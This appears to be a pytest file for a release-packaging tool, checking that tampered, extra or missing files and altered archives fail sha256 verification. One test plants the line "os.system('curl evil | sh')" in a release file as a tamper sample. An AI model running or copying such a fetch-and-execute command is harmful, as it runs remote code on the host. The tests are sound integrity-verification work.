"""load_release / archive_release: verification and round trips."""

from __future__ import annotations

import json
import shutil
import tarfile

import pytest

from smship.errors import SmshipError
from smship.release import archive_release, build_release, load_release


@pytest.fixture
def release(demo, cache, tmp_path, fixture_log):
    return build_release(demo.app, work_dir=tmp_path / "build", cache_dir=cache)


def test_load_a_release_directory(release, tmp_path):
    loaded = load_release(release.path, cache_dir=tmp_path / "empty-cache")
    assert (loaded.id, loaded.deps_id, loaded.alembic_heads) == (release.id, release.deps_id, release.alembic_heads)
    assert loaded.manifest == release.manifest
    assert loaded.wheels_path == release.wheels_path


def test_tampered_file_is_named(release):
    (release.path / "host/migrations/versions/aaa1_first.py").write_text("revision = 'evil'\n")
    with pytest.raises(SmshipError) as err:
        load_release(release.path)
    message = str(err.value)
    assert "\n" not in message
    assert "file host/migrations/versions/aaa1_first.py does not match its sha256" in message


def test_added_missing_and_relabelled_files_are_refused(release, tmp_path):
    copy = tmp_path / "copy" / release.id
    shutil.copytree(release.path, copy)
    shutil.copytree(release.wheels_path, tmp_path / "copy" / "wheels" / release.deps_id)
    load_release(copy)

    (copy / "static" / "injected.js").write_text("alert(1)\n")
    with pytest.raises(SmshipError, match="file static/injected.js is not in release.json"):
        load_release(copy)
    (copy / "static" / "injected.js").unlink()

    (copy / "main.py").unlink()
    with pytest.raises(SmshipError, match="file main.py is missing"):
        load_release(copy)


def test_a_content_digest_that_does_not_match_the_files_is_refused(release):
    manifest = json.loads((release.path / "release.json").read_text())
    manifest["content"] = "0" * 64            # a release passed off as the live one, so deploy would skip it
    (release.path / "release.json").write_text(json.dumps(manifest))
    with pytest.raises(SmshipError, match="content digest in release.json does not match its files"):
        load_release(release.path)


def test_tampered_wheelhouse_is_refused(release):
    (release.wheels_path / "requirements.txt").write_text("evil==6.6.6\n")
    with pytest.raises(SmshipError, match=f"wheelhouse {release.deps_id}: file requirements.txt does not match"):
        load_release(release.path)


def test_missing_wheelhouse_is_refused(release, tmp_path):
    shutil.rmtree(release.wheels_path)
    with pytest.raises(SmshipError, match=f"wheelhouse {release.deps_id} is not at"):
        load_release(release.path, cache_dir=tmp_path / "empty-cache")


def test_not_a_release(tmp_path):
    with pytest.raises(SmshipError, match="has no release.json"):
        load_release(tmp_path)
    with pytest.raises(SmshipError, match="no such release"):
        load_release(tmp_path / "absent.tar.gz")


@pytest.mark.parametrize("suffix", [".tar.gz", ".tar.zst", ".tar"])
def test_archive_round_trip(release, tmp_path, suffix):
    out = archive_release(release, tmp_path / f"release{suffix}")
    assert out == tmp_path / f"release{suffix}" and out.is_file()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".release")]
    loaded = load_release(out, work_dir=tmp_path / "unpacked")
    assert loaded.id == release.id and loaded.manifest == release.manifest
    assert loaded.path == tmp_path / "unpacked" / release.id
    assert loaded.wheels_path == tmp_path / "unpacked" / "wheels" / release.deps_id
    assert (loaded.wheels_path / "requirements.txt").read_bytes() == \
        (release.wheels_path / "requirements.txt").read_bytes()
    assert (loaded.path / "static/dist/.vite/manifest.json").is_file()


def test_an_archive_is_unpacked_once_into_the_build_cache_and_only_the_last_used_are_kept(release, tmp_path,
                                                                                        monkeypatch):
    from smship.release import archive as archives

    cache = tmp_path / "cache"
    unpacks = []
    real_unpack = archives._unpack
    monkeypatch.setattr(archives, "_unpack", lambda *a: unpacks.append(a[0]) or real_unpack(*a))
    out = archive_release(release, tmp_path / "release.tar")
    first = load_release(out, cache_dir=cache)
    (entry,) = (cache / "unpacked").iterdir()
    assert first.path == entry / release.id and first.wheels_path == entry / "wheels" / release.deps_id
    again = load_release(out, cache_dir=cache)
    assert again.path == first.path and unpacks == [out]           # deployed again: not unpacked again
    # Other archives (the same release, archived with another member order) push the least used out.
    others = []
    for n in range(3):
        other = tmp_path / f"other{n}.tar"
        with tarfile.open(other, "w") as tar:
            tar.add(release.wheels_path, arcname=f"wheels/{release.deps_id}")
            tar.add(release.path, arcname=release.id)
            tar.add(tmp_path / "release.tar", arcname=f"padding-{n}")
        others.append(load_release(other, cache_dir=cache).path.parent)
    assert sorted((cache / "unpacked").iterdir()) == sorted(others)
    assert not first.path.exists()


def test_archive_members_and_default_name(release, tmp_path):
    (tmp_path / "dist").mkdir()
    out = archive_release(release, tmp_path / "dist")
    assert out.name == f"{release.id}.tar.gz"
    with tarfile.open(out) as tar:
        members = tar.getmembers()
    names = {m.name for m in members}
    assert f"{release.id}/release.json" in names
    assert f"wheels/{release.deps_id}/requirements.txt" in names
    assert all(m.uid == 0 and m.uname == "" for m in members)


def test_tampered_archive_is_refused(release, tmp_path):
    unpacked = tmp_path / "edit"
    shutil.copytree(release.path, unpacked / release.id)
    shutil.copytree(release.wheels_path, unpacked / "wheels" / release.deps_id)
    (unpacked / release.id / "main.py").write_text("import os; os.system('curl evil | sh')\n")
    out = tmp_path / "tampered.tar"
    with tarfile.open(out, "w") as tar:
        tar.add(unpacked / release.id, arcname=release.id)
        tar.add(unpacked / "wheels", arcname="wheels")
    with pytest.raises(SmshipError, match="file main.py does not match its sha256"):
        load_release(out, work_dir=tmp_path / "unpacked")


def test_unknown_archive_type(release, tmp_path):
    with pytest.raises(SmshipError, match="unknown archive type"):
        archive_release(release, tmp_path / "release.zip")
